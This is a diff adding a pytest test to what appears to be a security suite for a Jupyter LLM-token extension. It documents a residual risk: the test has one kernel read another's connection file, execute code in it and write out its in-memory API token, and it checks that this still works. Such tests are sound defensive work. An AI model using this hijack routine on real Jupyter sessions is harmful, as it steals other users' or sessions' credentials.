@@ -217,3 +217,32 @@ print("{}")
     rt.run_py(kernel, f"LOOTFILE = {str(lootfile)!r}\n" + code, timeout=60)
     leaked = lootfile.exists() and bool(rt.find_leaks(lootfile.read_text(), stack.provider_key))
     assert leaked, "the residual risk is gone: update docs/security.md (and this test)"
+
+
+def test_residual_kernel_b_runs_code_in_kernel_a_through_its_connection_file(stack, kernel, rt, tmp_path):
+    """Documented residual (tier 2, same uid): kernels of one user are not isolated. Kernel B reads
+    A's connection file from the runtime dir, executes code in A and gets A's in-memory token even
+    after `%load_ext` wiped it from A's environment. Tokens still die with their kernel. This test
+    proves the risk is real so docs/security.md stays honest."""
+    a = kernel
+    b = kernel.make_another()
+    rt.run_py(a, "%load_ext jupyter_securellm")
+    loot = tmp_path / "hijack.json"
+    code = f'''
+import glob, json, os
+from jupyter_core.paths import jupyter_runtime_dir
+from jupyter_client import BlockingKernelClient
+got = None
+for cf in glob.glob(os.path.join(jupyter_runtime_dir(), "kernel-*.json")):
+    if {a.kernel_id!r} not in cf:
+        continue
+    kc = BlockingKernelClient(); kc.load_connection_file(cf); kc.start_channels()
+    kc.wait_for_ready(timeout=30)
+    r = kc.execute_interactive("from jupyter_securellm.kernel import client as _c; "
+                               "open({str(loot)!r}, 'w').write(_c._KERNEL_TOKEN or '')", timeout=30)
+    got = r["content"]["status"]; kc.stop_channels()
+print(json.dumps(got))
+'''
+    _, msgs = rt.run_py(b, code, timeout=90)
+    assert rt.last_json(msgs) == "ok"
+    assert len(loot.read_text()) > 20, "the residual risk is gone: update docs/security.md (and this test)"
